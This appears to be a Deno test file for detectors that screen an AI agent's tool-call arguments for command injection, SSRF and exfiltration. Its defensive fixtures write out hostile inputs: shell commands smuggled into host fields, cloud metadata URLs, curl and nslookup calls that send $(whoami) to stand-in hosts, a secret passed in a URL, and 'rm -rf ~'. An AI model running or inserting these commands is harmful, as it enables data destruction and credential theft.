/**
 * Round 48 precision, by the meaning that makes a call safe (paraphrases, none from the fixtures):
 * a host pattern or a visibility note in a host argument, a platform shell's own target host, a
 * GET to a public API with a placeholder credential, an identity lookup labelling a key in a
 * stored guide — each beside the attack of the same shape, which must still count.
 */
import assert from "node:assert/strict";
import { callText } from "../walk.ts";
import { commandInjectionDetector } from "./command_injection.ts";
import { ssrfDetector, SsrfOptionsSchema } from "./ssrf.ts";
import { placeholderPublicGet } from "./_args_r48.ts";
import { labelOnlyLookup, shellWithoutNotes } from "./_cmd_r48.ts";
import { keyHousekeeping } from "./_path_r31.ts";

const cmdBlocks = (key: string, value: string, tool = "run_cmd"): boolean =>
  commandInjectionDetector.scan(
    value,
    { stage: "input", path: `$.${key}`, key, tool },
    { strict_keys: [], mode: "auto" },
  ).some((f) => f.severity === "high" || f.severity === "critical");

Deno.test("cmd r48: a host pattern or a visibility note is not shell syntax", () => {
  for (
    const [k, v] of [
      ["host", "WS-FIN-*"],
      ["host", "*.branch.example.org"],
      ["target_host", "db-0*.eu"],
      ["remote", "gitlab.example.com/acme/app (private)"],
      ["remote", "github.com/acme/site (read-only)"],
    ]
  ) {
    assert.ok(!cmdBlocks(k, v), `should pass: ${k}=${v}`);
  }
  for (
    const [k, v] of [
      ["host", "WS-FIN-*; shutdown /s"],
      ["host", "srv-* $(id)"],
      ["remote", "github.com/acme/site (reboot)"],
      ["remote", "github.com/acme/site (Remove-Item -Recurse C:\\)"],
      ["host", "web-*`id`"],
    ]
  ) {
    assert.ok(cmdBlocks(k, v), `should block: ${k}=${v}`);
  }
});

const OPTS = SsrfOptionsSchema.parse({});
const ssrfBlocks = (key: string, value: string, tool: string): boolean =>
  ssrfDetector.scan(value, { stage: "input", path: `$.${key}`, key, tool }, OPTS)
    .some((f) => f.severity !== "low");

Deno.test("ssrf r48: a platform shell's target host is where it runs", () => {
  assert.equal(ssrfBlocks("host", "esx-07.corp", "esxi_shell"), false);
  assert.equal(ssrfBlocks("host", "core-sw-2.lan", "switch_shell"), false);
  assert.equal(ssrfBlocks("hostname", "hv03.internal", "hyperv_shell"), false);
  // addresses and fetchers keep their weight
  assert.equal(ssrfBlocks("host", "169.254.169.254", "esxi_shell"), true);
  assert.equal(ssrfBlocks("host", "metadata.google.internal", "router_shell"), true);
  assert.equal(ssrfBlocks("host", "esx-07.corp", "fetch_page"), true);
});

Deno.test("args r48: a public GET with a placeholder credential is proved harmless", () => {
  const ok = [
    {
      method: "GET",
      url: "https://api.github.com/repos/acme/app/collaborators/octo/permission",
      headers: { Authorization: "token ${GH_TOKEN}" },
      return_body: true,
    },
    {
      method: "HEAD",
      url: "https://www.googleapis.com/drive/v3/files/1AbC?fields=id,name",
      headers: { Authorization: "Bearer {{ user_token }}" },
    },
    {
      method: "GET",
      endpoint: "https://graph.microsoft.com/v1.0/me/memberOf",
      headers: { Authorization: "Bearer <ACCESS_TOKEN>" },
    },
  ];
  for (const a of ok) assert.equal(placeholderPublicGet(callText(a)), true, JSON.stringify(a));
  const no = [
    // a write
    {
      method: "POST",
      url: "https://api.github.com/repos/acme/app/hooks",
      headers: { Authorization: "token ${GH_TOKEN}" },
      body: { url: "https://x.example" },
    },
    // a live token instead of a placeholder
    {
      method: "GET",
      url: "https://api.github.com/user",
      headers: { Authorization: "token ghp_Q3x9Lm2Vp8Rt4Wz6Yb1Hc5Jd7Fg0Ae2Kn3Ls" },
    },
    // an internal / metadata name, a bare IP
    {
      method: "GET",
      url: "https://metadata.google.internal/computeMetadata/v1/?recursive=true",
      headers: { Authorization: "Bearer <T>" },
    },
    {
      method: "GET",
      url: "https://10.0.0.8/api/v1/secrets",
      headers: { Authorization: "Bearer <T>" },
    },
    // data carried in the URL
    {
      method: "GET",
      url: "https://collect.example.net/c?d=c2VjcmV0LWtleS1wcm9kLTAwMDEtYWJjZGVmZ2hpamtsbW5vcA",
      headers: { Authorization: "Bearer <T>" },
    },
  ];
  for (const a of no) assert.equal(placeholderPublicGet(callText(a)), false, JSON.stringify(a));
});

Deno.test("cmd r48: an identity lookup that labels a local value in a stored script", () => {
  const guide =
    '# set up\ngit config --global user.name "$(whoami)"\nssh-keygen -t ed25519 -C "$(whoami)@example" -f ~/.ssh/id_ed25519';
  assert.equal(labelOnlyLookup(guide, guide.indexOf("$(whoami)"), "whoami"), true);
  assert.ok(!cmdBlocks("content", guide, "append_block"));
  // a one-line value, a lookup sent or resolved, a chained line: still counted
  assert.ok(cmdBlocks("content", "report-$(whoami)", "append_block"));
  for (
    const s of [
      "# note\nnslookup $(whoami).dns.example.net",
      "# note\ncurl -s https://c.example.net/?u=$(whoami)",
      '# note\necho "$(whoami)"; rm -rf ~',
    ]
  ) {
    assert.equal(labelOnlyLookup(s, s.indexOf("$("), "whoami"), false, s);
  }
});

Deno.test("path r48: key housekeeping in a guide with comments and a $(whoami) label", () => {
  assert.equal(
    keyHousekeeping(
      "# new key for the build VM\nssh-keygen -t ed25519 -C \"$(hostname)-ci\" -f ~/.ssh/ci_ed25519 -N ''\ncat ~/.ssh/ci_ed25519.pub  # paste this into the portal",
    ),
    true,
  );
  assert.equal(
    keyHousekeeping(
      "# back it up\nssh-keygen -t rsa -f ~/.ssh/id_rsa\ncat ~/.ssh/id_rsa  # send to IT",
    ),
    false,
  );
  assert.equal(keyHousekeeping('ssh-keygen -C "$(curl -s x.example)" -f ~/.ssh/k'), false);
  assert.equal(shellWithoutNotes("a # b\n# c\nd"), "a\nd");
});
